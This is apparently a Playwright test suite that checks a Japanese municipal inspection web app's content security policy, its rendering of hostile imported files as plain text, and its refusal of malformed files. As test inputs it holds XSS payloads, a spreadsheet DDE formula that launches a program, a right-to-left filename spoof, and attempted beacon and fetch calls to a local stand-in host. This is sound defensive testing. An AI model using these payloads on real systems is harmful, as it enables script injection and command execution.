import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import type { Browser, Page } from '@playwright/test';
import {
	goToScreen,
	makePdf,
	openFile,
	pickFile,
	portableUrl,
	visitEveryScreen,
	withoutPickers
} from './support/app-page.ts';
import { smallCityFile } from './support/small-city.ts';
import { downloadBy, expect, siteUrl, test } from './support/watched-test.ts';

const shapes = [
	['site', siteUrl],
	['portable html', portableUrl]
] as const;

test.beforeEach(({ context }) => withoutPickers(context));

test.describe('bypasses of the content security policy', () => {
	let otherHost: Server;
	let reached: string[];
	let address: string;

	test.beforeAll(async () => {
		otherHost = createServer((request, response) => {
			reached.push(request.url ?? '');
			response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
		});
		await new Promise<void>((resolve) => otherHost.listen(0, '127.0.0.1', resolve));
		address = `http://127.0.0.1:${String((otherHost.address() as AddressInfo).port)}/`;
	});
	test.beforeEach(() => {
		reached = [];
	});
	test.afterAll(() => void otherHost.close());

	/** A page of its own, because here the policy is meant to be violated. */
	async function openUnwatched(browser: Browser, url: string): Promise<Page> {
		const page = await (await browser.newContext()).newPage();
		await page.goto(url);
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
		return page;
	}

	for (const [shape, url] of shapes) {
		test(`no text becomes markup or code in the ${shape}`, async ({ browser }) => {
			const page = await openUnwatched(browser, url);
			const outcomes = await page.evaluate(tryCodeFromText);
			expect(outcomes).toEqual({
				innerHTML: 'TypeError',
				outerHTML: 'TypeError',
				insertAdjacentHTML: 'TypeError',
				documentWrite: 'TypeError',
				parseFromString: 'TypeError',
				srcdoc: 'TypeError',
				scriptText: 'TypeError',
				scriptAddress: 'TypeError',
				workerAddress: 'TypeError',
				policyOfItsOwn: 'TypeError',
				eval: 'EvalError',
				newFunction: 'EvalError',
				timerText: 'EvalError'
			});
			expect(await page.evaluate(() => 'intruded' in globalThis)).toBe(false);
			await page.context().close();
		});

		test(`no inline script runs in the ${shape}`, async ({ browser }) => {
			const page = await openUnwatched(browser, url);
			const blocked = await page.evaluate(tryInlineScripts);
			expect(blocked).toContain('script-src-elem');
			expect(blocked).toContain('script-src-attr');
			expect(await page.evaluate(() => 'intruded' in globalThis)).toBe(false);
			await page.context().close();
		});

		test(`nothing leaves the ${shape} for another host`, async ({ browser }) => {
			const page = await openUnwatched(browser, url);
			const { failed, blocked } = await page.evaluate(tryOtherHost, address);
			expect(failed).toEqual({ fetch: 'TypeError', request: 'error', socket: 'error' });
			for (const directive of ['connect-src', 'img-src', 'style-src-elem', 'frame-src', 'media-src'])
				expect(blocked).toContain(directive);
			expect(blocked).toContain('form-action');
			expect(blocked).toContain('base-uri');
			expect(reached).toEqual([]);
			await page.context().close();
		});
	}
});

const rightToLeft = '\u202e';
const markup = '<img src=x onerror=alert(1)>';
const formula = "=cmd|'/c calc'!A0";

/** A file whose every text tries something, as its sender would like it to be opened. */
function hostileFile(): Buffer {
	const file = JSON.parse(smallCityFile('hostile').toString()) as Record<string, unknown>;
	return Buffer.from(
		JSON.stringify({
			...file,
			title: `${formula} ${markup}`,
			municipality: { code: '282103', name: markup },
			parties: [{ id: 'party', name: `"><svg onload=alert(1)>`, kind: 'city' }],
			components: [
				{ id: 'service', name: `${rightToLeft}fdp.exe`, layer: 'service', criticality: 2, uses: [] },
				{ id: 'asset', name: formula, layer: 'asset', criticality: 2, uses: ['service'] }
			],
			answers: {
				organisation: {
					'GOV-01': { status: 'met', note: formula },
					'GOV-02': { status: 'not-met', note: '</script><script>alert(1)</script>' },
					'GOV-03': { status: 'not-applicable', reason: `javascript:alert(1) ${markup}` }
				}
			}
		})
	);
}

for (const [shape, url] of shapes) {
	test(`a hostile file is shown as text on every screen of the ${shape}`, async ({ page }) => {
		const opened: string[] = [];
		page.on('dialog', (dialog) => {
			if (dialog.type() !== 'beforeunload') opened.push(dialog.message());
			void dialog.accept();
		});
		await page.goto(url);
		await pickFile(page, hostileFile());
		await expect(page.getByRole('dialog').getByText(markup)).toBeVisible();
		await page.getByRole('dialog').getByRole('button', { name: '開く', exact: true }).click();
		await expect(page.getByRole('banner').getByText(markup)).toBeVisible();
		await visitEveryScreen(page, async () => {
			await expect(page.locator('img, main script, main iframe, [onerror], [onload]')).toHaveCount(0);
		});

		await goToScreen(page, '前提と構成');
		const names = page.locator('li bdi');
		await expect(names.filter({ hasText: formula }).first()).toHaveText(formula);
		await expect(names.filter({ hasText: 'fdp.exe' }).first()).toHaveText(`${rightToLeft}fdp.exe`);

		await goToScreen(page, '回答');
		const table = await downloadBy(page, () =>
			page.getByRole('button', { name: '回答表を書き出す' }).click()
		);
		expect(readFileSync(table.path, 'utf8')).toContain(`'${formula}`);
		expect(readFileSync(table.path, 'utf8')).not.toMatch(/(^|,)"?=/m);
		expect(table.name).not.toMatch(/[<>:"/\\|?*\u202e]/);

		expect((await makePdf(page)).subarray(0, 5).toString()).toBe('%PDF-');
		expect(opened).toEqual([]);
	});
}

/** Everything that this browser keeps for the site, to the letter. */
const kept = (page: Page) =>
	page.evaluate(async () => {
		const settled = <Value>(request: IDBRequest<Value>) =>
			new Promise<Value>((resolve, reject) => {
				request.onsuccess = () => resolve(request.result);
				request.onerror = () => reject(new Error('not readable'));
			});
		const stores: Record<string, unknown> = {};
		for (const { name = '' } of await indexedDB.databases()) {
			const database = await settled(indexedDB.open(name));
			for (const store of database.objectStoreNames) {
				const open = database.transaction(store).objectStore(store);
				stores[`${name}/${store}`] = [await settled(open.getAllKeys()), await settled(open.getAll())];
			}
			database.close();
		}
		return JSON.stringify({ stores, local: Object.entries(localStorage).sort() });
	});

test('a file that cannot be taken is refused with its reason, and kept work is untouched', async ({
	page
}, testInfo) => {
	await page.goto(siteUrl);
	await openFile(page, smallCityFile());
	await expect(page.getByText(/保存済み \d\d:\d\d/)).toBeVisible();
	await page.getByRole('link', { name: 'まち点検' }).click();
	await expect(page.getByRole('link', { name: '加古川市の点検', exact: true })).toBeVisible();
	const before = await kept(page);
	expect(before).toContain('GOV-01');

	// The same id as the kept one: a file taken by mistake would overwrite it.
	const whole = smallCityFile('small-city', 'not-met').toString();
	const huge = testInfo.outputPath('huge.machi-tenken.json');
	writeFileSync(huge, whole.padEnd(65 * 1024 * 1024, ' '));
	const shiftJis = Buffer.from([0x89, 0xc1, 0x8c, 0xc3, 0x90, 0xec, 0x8e, 0x73]);
	const refused: readonly (readonly [string | Buffer, RegExp])[] = [
		[Buffer.from(whole.slice(0, 200)), /1行201文字目でJSONとして読めなくなります/],
		[Buffer.from(''), /中身が空です/],
		[Buffer.from('{"format":"other-app/data","formatVersion":1}'), /種類: other-app\/data/],
		[Buffer.from('PK\u0003\u0004 a spreadsheet'), /JSONとして読めなくなります/],
		[Buffer.from(whole.replace('"formatVersion":1', '"formatVersion":2')), /より新しい形式/],
		[
			Buffer.concat([Buffer.from('{"title":"'), shiftJis, Buffer.from('"}')]),
			/文字コードがUTF-8ではありません/
		],
		[huge, /大きすぎます（65 MB、上限 64 MB）/]
	];
	for (const [file, reason] of refused) {
		await pickFile(page, file);
		const dialog = page.getByRole('dialog', { name: /は開けませんでした/ });
		await expect(dialog.getByText(reason)).toBeVisible();
		await expect(dialog.getByText('保存済みの点検には触れていません')).toBeVisible();
		await expect(dialog.getByRole('button', { name: '開く', exact: true })).toHaveCount(0);
		await dialog.getByRole('button', { name: '閉じる' }).click();
		await expect(dialog).toBeHidden();
	}
	expect(await kept(page)).toBe(before);

	await page.getByRole('link', { name: '加古川市の点検', exact: true }).click();
	await goToScreen(page, '回答');
	await expect(page.getByRole('button', { name: /実施済み.*GOV-01/ })).toBeVisible();
});

/** Runs in the page: what each way from a text to markup or code ends with. */
async function tryCodeFromText(): Promise<Record<string, unknown>> {
	const evil = '<img src=x onerror="globalThis.intruded = 1">';
	const code = 'globalThis.intruded = 1';
	const make = (name: string) => document.createElement(name);
	const attempts: Record<string, () => unknown> = {
		innerHTML: () => (make('div').innerHTML = evil),
		outerHTML: () => {
			const inner = make('b');
			make('div').append(inner);
			inner.outerHTML = evil;
		},
		insertAdjacentHTML: () => make('div').insertAdjacentHTML('beforeend', evil),
		documentWrite: () => document.write(evil),
		parseFromString: () => new DOMParser().parseFromString(evil, 'text/html'),
		srcdoc: () => ((make('iframe') as HTMLIFrameElement).srcdoc = evil),
		scriptText: () => ((make('script') as HTMLScriptElement).text = code),
		scriptAddress: () => ((make('script') as HTMLScriptElement).src = `data:,${code}`),
		workerAddress: () => new Worker(`data:text/javascript,${code}`),
		policyOfItsOwn: () =>
			(
				globalThis as unknown as {
					trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
				}
			).trustedTypes.createPolicy('intruder', { createHTML: (text: string) => text }),
		eval: () => (0, eval)(code),
		newFunction: () => new Function(code),
		timerText: () => setTimeout(code)
	};
	const outcome = (attempt: () => unknown) => {
		try {
			attempt();
			return 'done';
		} catch (error) {
			return (error as Error).name;
		}
	};
	// In a timer of the page, because the policy does not bind what the debugger evaluates.
	const outcomes = await new Promise<Record<string, unknown>>((resolve) =>
		setTimeout(() =>
			resolve(Object.fromEntries(Object.entries(attempts).map(([k, act]) => [k, outcome(act)])))
		)
	);
	await new Promise((resolve) => setTimeout(resolve, 300));
	return outcomes;
}

/** Runs in the page: the directives that stopped inline scripts which no sink of text guards. */
async function tryInlineScripts(): Promise<string[]> {
	const code = 'globalThis.intruded = 1';
	const blocked: string[] = [];
	document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
		blocked.push(effectiveDirective)
	);
	// A document that another parser made carries its handlers and scripts past every sink of this one.
	const foreign = new DOMParser().parseFromString(
		`<x xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script><a href="javascript:${code}" onclick="${code}">x</a></x>`,
		'application/xhtml+xml' as DOMParserSupportedType
	);
	document.body.append(...document.adoptNode(foreign.documentElement).childNodes);
	document.body.querySelector<HTMLElement>('a[onclick]')?.click();
	await new Promise((resolve) => setTimeout(resolve, 300));
	return blocked;
}

/** Runs in the page: how each way to another host ends, and which directives stopped it. */
async function tryOtherHost(address: string) {
	const blocked: string[] = [];
	document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
		blocked.push(effectiveDirective)
	);
	const ended = (target: EventTarget) =>
		new Promise<string>((resolve) => {
			for (const kind of ['load', 'open', 'error'])
				target.addEventListener(kind, () => resolve(kind), { once: true });
		});
	const request = new XMLHttpRequest();
	request.open('GET', `${address}request`);
	const requestEnds = ended(request);
	request.send();
	navigator.sendBeacon(`${address}beacon`, 'answers');
	const failed = {
		fetch: await fetch(`${address}fetch`).then(
			() => 'done',
			(error: unknown) => (error as Error).name
		),
		request: await requestEnds,
		socket: await new Promise<string>((resolve) => {
			try {
				void ended(new WebSocket(`${address.replace('http', 'ws')}socket`)).then(resolve);
			} catch {
				resolve('error');
			}
		})
	};
	const add = (name: string, given: Record<string, string>) => {
		const element = Object.assign(document.createElement(name), given);
		document.head.append(element);
		return element;
	};
	add('img', { src: `${address}image` });
	add('link', { rel: 'stylesheet', href: `${address}style` });
	add('link', { rel: 'prefetch', href: `${address}prefetch` });
	add('iframe', { src: `${address}frame` });
	add('audio', { src: `${address}media` });
	add('base', { href: address });
	(add('form', { action: `${address}form`, method: 'post' }) as HTMLFormElement).submit();
	await new Promise((resolve) => setTimeout(resolve, 500));
	return { failed, blocked };
}
